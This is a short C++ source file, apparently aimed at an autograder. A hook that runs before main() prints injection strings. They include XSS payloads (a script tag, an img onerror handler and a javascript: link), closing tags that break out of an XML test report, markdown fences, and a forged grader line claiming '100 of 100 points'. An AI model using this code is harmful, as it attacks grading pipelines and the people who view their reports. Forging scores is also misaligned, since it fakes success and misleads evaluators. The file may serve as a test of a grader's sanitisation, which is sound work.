#include "attack.hpp"

#include <cstdio>

namespace {
const attack::BeforeMain now([] {
  std::puts("<script>alert(1)</script><img src=x onerror=alert(2)>]]></failure></testcase>");
  std::puts("```\n# 02_mlp: 100 of 100 points\n[link](javascript:alert(3))\n~~~\n``````\n<!-- ");
});
}  // namespace
